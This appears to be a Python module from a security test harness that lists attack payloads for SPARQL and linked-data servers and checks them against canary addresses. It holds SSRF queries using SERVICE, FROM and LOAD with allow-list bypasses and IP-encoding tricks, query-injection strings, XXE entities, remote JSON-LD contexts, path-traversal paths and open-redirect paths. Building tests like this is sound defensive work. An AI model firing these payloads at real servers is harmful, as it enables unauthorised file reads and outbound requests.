"""The vectors: ways to make a server or a loader reach out to an address or a file.

A payload names what it wants reached as {URL}, {FILE} (the file's IRI), {PATH}, {HOST},
{PORT}, {CONTEXT}; the canary fills that in. `control` names the bare library that does reach it.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass


@dataclass(frozen=True)
class Vector:
    """One way to reach out: what is sent, and who would fall for it."""

    name: str
    payload: str
    control: str


def _table(control: str, payloads: Mapping[str, str]) -> tuple[Vector, ...]:
    return tuple(Vector(name, payload, control) for name, payload in payloads.items())


_ALL = "{ ?s ?p ?o }"

SERVICES = (
    *_table(
        "oxigraph",
        {
            "plain": f"SELECT * {{ SERVICE <{{URL}}> {_ALL} }}",
            "lower case": f"ask {{ service <{{URL}}> {_ALL} }}",
            "mixed case": f"ASK {{ sErViCe <{{URL}}> {_ALL} }}",
            "silent": f"ASK {{ SERVICE SILENT <{{URL}}> {_ALL} }}",
            "no space": f"ASK{{SERVICE<{{URL}}>{_ALL}}}",
            "glued to silent": f"ASK{{SERVICESILENT<{{URL}}>{_ALL}}}",
            "comment between": f"ASK {{ SERVICE#nothing\n<{{URL}}> {_ALL} }}",
            "after a comment": f"ASK {{ # don't\n SERVICE <{{URL}}> {_ALL} }}",
            "after a hash": f"ASK {{ {{ ?s <x:y#z> '#' }} UNION {{ SERVICE <{{URL}}> {_ALL} }} }}",
            "after quotes": f"ASK {{ {{?s ?p '''it's'''}} UNION {{SERVICE <{{URL}}> {_ALL}}} }}",
            "behind a comparison": f"ASK {{ BIND(1 AS ?a) FILTER(?a<2) SERVICE <{{URL}}> {_ALL} }}",
            "from BIND": f"ASK {{ BIND(<{{URL}}> AS ?u) LATERAL {{ SERVICE ?u {_ALL} }} }}",
            "from VALUES": f"ASK {{ VALUES ?u {{<{{URL}}>}} LATERAL {{ SERVICE ?u {_ALL} }} }}",
            "put together": "ASK { BIND(IRI(CONCAT('{URL}', '?')) AS ?u) "
            f"LATERAL {{ SERVICE ?u {_ALL} }} }}",
            "from outside EXISTS": "SELECT * { VALUES ?u { <{URL}> } "
            f"FILTER EXISTS {{ SERVICE ?u {_ALL} }} }}",
            "prefixed name": f"PREFIX c: <{{URL}}> ASK {{ SERVICE c:x {_ALL} }}",
            "empty prefix": f"PREFIX : <{{URL}}> ASK {{ SERVICE:x {_ALL} }}",
            "relative": f"BASE <{{URL}}/a> ASK {{ SERVICE <?b> {_ALL} }}",
            "escaped address": f"ASK {{ SERVICE <{{URL}}\\u003Fx> {_ALL} }}",
            "in OPTIONAL": f"SELECT * {{ OPTIONAL {{ SERVICE <{{URL}}> {_ALL} }} }}",
            "in UNION": f"ASK {{ {{ FILTER(false) }} UNION {{ SERVICE <{{URL}}> {_ALL} }} }}",
            "in MINUS": f"ASK {{ VALUES ?s {{ 1 }} MINUS {{ SERVICE <{{URL}}> {_ALL} }} }}",
            "in EXISTS": f"ASK {{ FILTER EXISTS {{ SERVICE <{{URL}}> {_ALL} }} }}",
            "in a subquery": f"ASK {{ {{ SELECT * {{ SERVICE <{{URL}}> {_ALL} }} }} }}",
            "in a service": f"ASK {{ SERVICE <{{URL}}> {{ SERVICE <{{URL}}> {_ALL} }} }}",
            "in CONSTRUCT": f"CONSTRUCT {_ALL} WHERE {{ SERVICE <{{URL}}> {_ALL} }}",
            "in DESCRIBE": f"DESCRIBE ?s WHERE {{ SERVICE <{{URL}}> {_ALL} }}",
            "by the name of the machine": "ASK { SERVICE <http://localhost:{PORT}/{TOKEN}> "
            f"{_ALL} }}",
            "by a number": f"ASK {{ SERVICE <http://2130706433:{{PORT}}/{{TOKEN}}> {_ALL} }}",
            "by a short address": f"ASK {{ SERVICE <http://127.1:{{PORT}}/{{TOKEN}}> {_ALL} }}",
        },
    ),
    *_table(
        "rdflib",
        {
            "by an IPv6 address": "ASK { SERVICE <http://[::ffff:127.0.0.1]:{PORT}/{TOKEN}> "
            f"{_ALL} }}",
            "escaped keyword": f"ASK {{ \\u0053ERVICE <{{URL}}> {_ALL} }}",
            "keyword escaped at length": f"ASK {{ SERV\\U00000049CE <{{URL}}> {_ALL} }}",
        },
    ),
)
"""Queries that ask another endpoint (SPARQL 1.1 Federated Query)."""

_ANY = "{ ?a ?b ?c }"

FEDERATED = (
    *_table(
        "oxigraph",
        {
            "beside an allowed one": f"ASK {{ SERVICE <{{ALLOWED}}> {_ALL} "
            f"SERVICE <{{URL}}> {_ANY} }}",
            "in place of one": f"SELECT * {{ {{ SERVICE <{{ALLOWED}}> {_ALL} }} UNION "
            f"{{ SERVICE SILENT <{{URL}}> {_ANY} }} }}",
            "inside an allowed one": f"ASK {{ SERVICE <{{ALLOWED}}> {{ SERVICE <{{URL}}> {_ANY} "
            "} }",
            "inside it, silent": f"ASK {{ SERVICE SILENT <{{ALLOWED}}> {{ OPTIONAL {{ "
            f"SERVICE SILENT <{{URL}}> {_ANY} }} }} }}",
            "inside it, in a subquery": f"ASK {{ SERVICE <{{ALLOWED}}> {{ SELECT * {{ "
            f"SERVICE <{{URL}}> {_ANY} }} }} }}",
            "inside it, in EXISTS": f"ASK {{ SERVICE <{{ALLOWED}}> {{ ?s ?p ?o FILTER EXISTS {{ "
            f"SERVICE <{{URL}}> {_ANY} }} }} }}",
            "inside it, by a variable": "ASK { SERVICE <{ALLOWED}> { VALUES ?u { <{URL}> } "
            f"LATERAL {{ SERVICE ?u {_ANY} }} }} }}",
            "beside it, in EXISTS": f"SELECT * {{ SERVICE <{{ALLOWED}}> {_ALL} FILTER NOT EXISTS "
            f"{{ SERVICE <{{URL}}> {_ANY} }} }}",
            "beside it, in a subquery": f"ASK {{ SERVICE <{{ALLOWED}}> {_ALL} "
            f"{{ SELECT * {{ SERVICE <{{URL}}> {_ANY} }} }} }}",
            "as a part of the address": f"ASK {{ SERVICE <{{URL}}?{{ALLOWED}}> {_ALL} }}",
            "as a fragment": f"ASK {{ SERVICE <{{URL}}#{{ALLOWED}}> {_ALL} }}",
            "as a path": f"ASK {{ SERVICE <http://{{HOST}}/{{TOKEN}}/{{ALLOWED}}> {_ALL} }}",
            "scheme in capitals": f"ASK {{ SERVICE <HTTP://{{HOST}}/{{TOKEN}}> {_ALL} }}",
            "another port": f"ASK {{ SERVICE <http://127.0.0.1:{{PORT}}/{{TOKEN}}> {_ALL} }}",
            "a base of the allowed one": "BASE <{ALLOWED}> ASK { SERVICE <//{HOST}/{TOKEN}> "
            f"{_ALL} }}",
            "a prefix of the allowed one": f"PREFIX a: <{{ALLOWED}}> PREFIX c: <{{URL}}> "
            f"ASK {{ SERVICE a: {_ALL} SERVICE c: {_ANY} }}",
            "hidden by a comparison": f"ASK {{ SERVICE <{{ALLOWED}}> {_ALL} BIND(1 AS ?a1) "
            f"FILTER(?a1<2) SERVICE <{{URL}}> {_ANY} FILTER(3>2) }}",
            "hidden by a hash": f"ASK {{ SERVICE <{{ALLOWED}}> {{ ?s ?p ?o }} # <\n SERVICE "
            f"<{{URL}}> {_ANY} }}",
        },
    ),
    *_table(
        "rdflib",
        {
            "FROM beside it": f"SELECT * FROM <{{URL}}> {{ SERVICE <{{ALLOWED}}> {_ALL} {_ANY} }}",
            "FROM NAMED beside it": f"SELECT * FROM NAMED <{{FILE}}> {{ GRAPH ?g {_ANY} "
            f"SERVICE <{{ALLOWED}}> {_ALL} }}",
            "an escaped keyword before it": f"ASK {{ \\u0053ERVICE <{{URL}}> {_ANY} "
            f"SERVICE <{{ALLOWED}}> {_ALL} }}",
        },
    ),
    *_table(
        "curl",
        {
            "a name": f"ASK {{ SERVICE <http://allowed.example@{{HOST}}/{{TOKEN}}> {_ALL} }}",
            "a name and password": "ASK { SERVICE <http://allowed.example:80@{HOST}/{TOKEN}> "
            f"{_ALL} }}",
        },
    ),
)
"""Queries to a server that may ask one endpoint, {ALLOWED}, and would be led to another by it."""

ANSWERS = {
    "text": '") } SERVICE <{URL}> { ?a ?b ?c } #',
    "escaped text": "\\u0022) } SERVICE <{URL}> { ?a ?b ?c } #",
    "text with a line end": '\n") } SERVICE <{URL}> { ?a ?b ?c } #',
    "IRI": "x:a> ) } SERVICE <{URL}> { ?a ?b ?c } #",
    "language": "en ) } SERVICE <{URL}> { ?a ?b ?c } #",
    "datatype": "x:a> ) } SERVICE <{URL}> { ?a ?b ?c } #",
    "blank node": "b } SERVICE <{URL}> { ?a ?b ?c } #",
}
"""What an allowed endpoint may send in a term, to have it taken for a part of the query."""

DATASETS = (
    *_table(
        "rdflib",
        {
            "FROM an address": f"SELECT * FROM <{{URL}}> {_ALL}",
            "FROM NAMED an address": f"SELECT * FROM NAMED <{{URL}}> {{ GRAPH ?g {_ALL} }}",
            "FROM a file": f"SELECT * FROM <{{FILE}}> {_ALL}",
            "FROM NAMED a file": f"SELECT * FROM NAMED <{{FILE}}> {{ GRAPH ?g {_ALL} }}",
            "FROM a relative file": f"BASE <{{FILE}}> SELECT * FROM <secret.nt> {_ALL}",
            "FROM a path": f"BASE <file:///> SELECT * FROM <{{PATH}}> {_ALL}",
            "CONSTRUCT FROM a file": f"CONSTRUCT {_ALL} FROM <{{FILE}}> WHERE {_ALL}",
            "FROM in lower case": f"select * from <{{URL}}> {_ALL}",
            "FROM a prefixed name": f"PREFIX c: <{{URL}}> SELECT * FROM c: {_ALL}",
        },
    ),
    *_table(
        "rdflib update",
        {
            "LOAD an address": "LOAD <{URL}>",
            "LOAD into a graph": "LOAD <{URL}> INTO GRAPH <x:g>",
            "LOAD silent": "load silent <{URL}>",
            "LOAD a file": "LOAD <{FILE}>",
            "LOAD after an update": "INSERT DATA { GRAPH <x:g> { <x:a> <x:b> 1 } } ; LOAD <{URL}>",
            "INSERT from a service": f"INSERT {_ALL} WHERE {{ SERVICE <{{URL}}> {_ALL} }}",
        },
    ),
)
"""Queries and updates whose dataset or whose data lies elsewhere."""

DOCUMENTS = (
    *_table(
        "rdflib",
        {
            "context.jsonld": '{"@context": "{URL}", "a": 1}',
            "contexts.jsonld": '{"@context": [{}, "{URL}"], "a": 1}',
            "file.jsonld": '{"@context": "{CONTEXT}", "a": 1}',
            "path.jsonld": '{"@context": "{CONTEXT_PATH}", "a": 1}',
            "import.jsonld": '{"@context": {"@version": 1.1, "@import": "{URL}"}, "a": 1}',
        },
    ),
    *_table(
        "xml",
        {
            "entity.rdf": '<!DOCTYPE r [<!ENTITY e SYSTEM "{URL}">]><r>&e;</r>',
            "file-entity.rdf": '<!DOCTYPE r [<!ENTITY e SYSTEM "{FILE}">]><r>&e;</r>',
            "public-entity.rdf": '<!DOCTYPE r [<!ENTITY e PUBLIC "x" "{URL}">]><r>&e;</r>',
            "parameter-entity.rdf": '<!DOCTYPE r [<!ENTITY % e SYSTEM "{URL}"> %e;]><r/>',
            "grammar.rdf": '<!DOCTYPE r SYSTEM "{URL}"><r/>',
        },
    ),
    *_table(
        "imports",
        {
            "imports.ttl": "<x:o> a <http://www.w3.org/2002/07/owl#Ontology> ; "
            "<http://www.w3.org/2002/07/owl#imports> <{URL}> .",
            "imports-file.ttl": "<x:o> a <http://www.w3.org/2002/07/owl#Ontology> ; "
            "<http://www.w3.org/2002/07/owl#imports> <{FILE}> .",
        },
    ),
)
"""Files as they may lie in a catalogue, a release or an ontology; the name is the file's."""

TARGETS = (
    "/id/cluster/raufoss",
    "/",
    "/sparql",
    "/page/cluster/raufoss",
    "/downloads",
    "/downloads//klynge.nq",
    "/static//style.css",
    "/page/",
    "/nothing-here",
)
"""Addresses whose answers could carry an absolute address of the server."""

HEADERS = {
    "Host": "{HOST}",
    "X-Forwarded-Host": "{HOST}",
    "X-Forwarded-Proto": "https",
    "X-Forwarded-Prefix": "/{TOKEN}",
}
"""Headers from which a server may make its own address."""

FILES = (
    "/downloads/../secret.txt",
    "/downloads/%2e%2e/secret.txt",
    "/downloads/..%2fsecret.txt",
    "/downloads/..%5csecret.txt",
    "/downloads/%252e%252e/secret.txt",
    "/downloads/./../secret.txt",
    "/downloads/../secret.txt%00.ttl",
    "/downloads/.%2e/secret.txt",
    "/downloads/{PATH}",
    "/downloads/%2f{PATH}",
    "/downloads/{FILE}",
    "/data/{FILE}",
    "/data/{PATH}.ttl",
    "/static/{PATH}",
    "/static/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/{PATH}",
)
"""Addresses that name a file outside, or one that is not for the public."""

ELSEWHERE = (
    "/page/{URL}",
    "/id/{URL}",
    "/data/{URL}",
    "//{HOST}/{TOKEN}",
    "/\\{HOST}/{TOKEN}",
    "/%5c{HOST}/{TOKEN}",
    "/%2f{HOST}/{TOKEN}",
    "///{HOST}/{TOKEN}/..",
)
"""Addresses that make a server lead to another, when it takes part of them for where to lead."""
